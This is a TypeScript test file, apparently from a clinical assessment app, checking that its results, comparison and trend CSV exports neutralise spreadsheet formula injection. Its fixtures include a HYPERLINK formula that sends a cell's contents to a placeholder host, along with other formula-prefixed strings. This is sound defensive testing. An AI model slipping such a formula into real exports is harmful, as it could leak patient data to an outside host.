/**
 * Every CSV the app writes is spreadsheet-safe (web/src/i18n/csv-text.ts): the results
 * CSV, the comparison CSV and the trend CSV, with a patient identifier, photo name or
 * date crafted as a formula; their numbers, negative ones too, stay numbers.
 */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { type Assessment, compare } from '../../../../web/src/compare/compare.js'
import { type ComparisonCsvText, comparisonCsv } from '../../../../web/src/compare/comparison-rows.js'
import { csvOf, resultEntries } from '../../../../web/src/files/results-csv.js'
import { ES_TERMS } from '../../../../web/src/i18n/terms.js'
import { metricsOf } from '../../../../web/src/metrics/metric-info.js'
import { type Placement, propagate } from '../../../../web/src/metrics/uncertainty.js'
import type { VisitRecord } from '../../../../web/src/record/model.js'
import { trendCsv, trendsOf } from '../../../../web/src/record/trend.js'
import { assessmentFileOf } from '../../../../web/src/state/assessment-file.js'
import * as commands from '../../../../web/src/state/commands.js'
import { requestOf } from '../../../../web/src/state/model.js'
import { initialState } from '../../../../web/src/state/state.js'
import { FIGURES } from '../../fixtures/figure.js'
import { markedDoc } from '../fixtures.js'

const HYPERLINK = '=HYPERLINK("http://x/?d="&B2,"ver")'
const QUOTED = `"'=HYPERLINK(""http://x/?d=""&B2,""ver"")"`

/** The cells of a CSV line (no quoted commas in the lines these tests read). */
const cells = (line: string) => line.split(',')

describe('CSV exports a spreadsheet does not run', () => {
  test('results CSV: a formula as patient identifier or photo name is text; negative values stay numbers', () => {
    const metrics = metricsOf('anterior')
    const values = Object.fromEntries(metrics.map((m, i) => [m.name, -1.5 - i]))
    let s = commands.commit(initialState(), markedDoc('anterior'))
    const doc = s.views.anterior.doc
    s = commands.commit(s, { ...doc, photo: { ...doc.photo!, name: '@SUM(A1).png' } })
    const request = requestOf('anterior', s.views.anterior.doc)
    assert.ok(request.ready)
    s = commands.setOutcome(s, 'anterior', { key: request.key, values, problems: [], pending: false, fromFile: false })
    const lines = csvOf(resultEntries(s), 2, { patientId: HYPERLINK, date: '2026-03-10', notes: '' })
      .trimEnd()
      .split('\r\n')
    assert.equal(lines.length, 1 + metrics.length)
    for (const line of lines.slice(1)) {
      assert.ok(line.startsWith(`${QUOTED},2026-03-10,anterior,`), line)
      assert.ok(line.includes(",'@SUM(A1).png,"), line)
    }
    const first = cells(lines[1]!.slice(QUOTED.length + 1))
    assert.equal(first[4], '-1.5', 'the value, a negative number, as written')
  })

  test('trend CSV: a formula as patient identifier is text; values as numbers', () => {
    const NOW = '2026-05-01T10:00:00.000Z'
    const visit = (id: string, date: string): VisitRecord => ({
      id,
      patientId: 'p',
      date,
      created: NOW,
      updated: NOW,
      file: assessmentFileOf(
        commands.setMeta(commands.commit(initialState(), markedDoc('anterior')), { patientId: 'x', date }),
        new Date(NOW),
      )!,
      photos: {},
      rev: 1,
    })
    const series = trendsOf([visit('a', '2026-01-01'), visit('b', '-2+3')], 'anterior', 2)
    const lines = trendCsv(
      '-cmd',
      series,
      ['patient', 'date'],
      () => '+yes',
      { degrees: 'degrees', cm: 'cm' },
      () => '=evidence',
    )
      .trimEnd()
      .split('\r\n')
    assert.ok(lines.length > 1)
    for (const line of lines.slice(1)) {
      const [patient, date, , , value, u, , verdict, , evidence] = cells(line)
      assert.equal(patient, "'-cmd")
      assert.ok(evidence === '' || evidence === "'=evidence", line)
      assert.ok(date === '2026-01-01' || date === "'-2+3", line)
      assert.equal(verdict, "'+yes")
      assert.ok(Number.isFinite(Number(value)) && Number.isFinite(Number(u)), line)
    }
  })

  test('comparison CSV: a formula as a visit date is text; negative changes stay numbers', () => {
    const assessment = (p: Placement, date: string): Assessment => {
      const list = propagate(p, { sd: 2 })
      return {
        view: p.view,
        ...(p.side ? { side: p.side } : {}),
        values: Object.fromEntries(list.map((m) => [m.name, m.value])),
        u: Object.fromEntries(list.map((m) => [m.name, m.u])),
        date,
      }
    }
    const f = FIGURES.lateral
    const placement = (dx: number): Placement => ({
      view: 'lateral',
      markers: { ...f.markers, tragus: [f.markers.tragus![0] + dx, f.markers.tragus![1]] },
      ...(f.side ? { side: f.side } : {}),
      lrvX: f.lrvX,
      scale: { a: f.scale[0], b: f.scale[1], gridCm: f.scaleCm },
    })
    const c = compare(assessment(placement(25), '2026-03-10'), assessment(placement(0), HYPERLINK))
    assert.ok(c.ok)
    const words = (key: string) => `\t${key}`
    const text: ComparisonCsvText = {
      headers: {
        view: '=view',
        side: 'side',
        metric: 'metric',
        label: 'label',
        unit: 'unit',
        earlierDate: 'earlier_date',
        earlierValue: 'earlier_value',
        earlierU: 'earlier_u',
        laterDate: 'later_date',
        laterValue: 'later_value',
        laterU: 'later_u',
        change: 'change',
        uChange: 'u_change',
        srd: 'srd',
        verdict: 'verdict',
        limit: 'limit',
        evidence: 'evidence',
        evidencePairs: 'pairs',
        evidenceSource: 'source',
      },
      evidence: { clinic: '@clinic', published: '+published', placement: '-placement' },
      units: { degrees: 'degrees', cm: 'cm' },
      verdicts: {
        real: words('real'),
        within: words('within'),
        method_differs: words('differs'),
        missing: words('missing'),
        unknown: words('unknown'),
      },
      views: { anterior: 'anterior', posterior: 'posterior', lateral: 'lateral' },
      sides: { right: 'right', left: 'left' },
    }
    const lines = comparisonCsv(c, ES_TERMS, text).trimEnd().split('\r\n')
    assert.ok(lines[0]!.startsWith("'=view,side,"), lines[0])
    const negative = c.rows.filter((r) => r.change !== null && r.change < 0)
    assert.ok(negative.length > 0, 'a metric whose change is negative')
    for (const line of lines.slice(1)) {
      assert.ok(line.includes(`,${QUOTED},`), line)
      // The verdict, the limit (a number), and the evidence's words, each neutralised.
      assert.match(line, /,'\t\w+,[-\d.e]*,'(@clinic|\+published|-placement),/)
    }
    for (const r of negative) {
      const line = lines.find((l) => cells(l)[2] === r.name)!
      assert.ok(line.includes(`,${String(r.change)},`), `${r.name}: ${line}`)
    }
  })
})
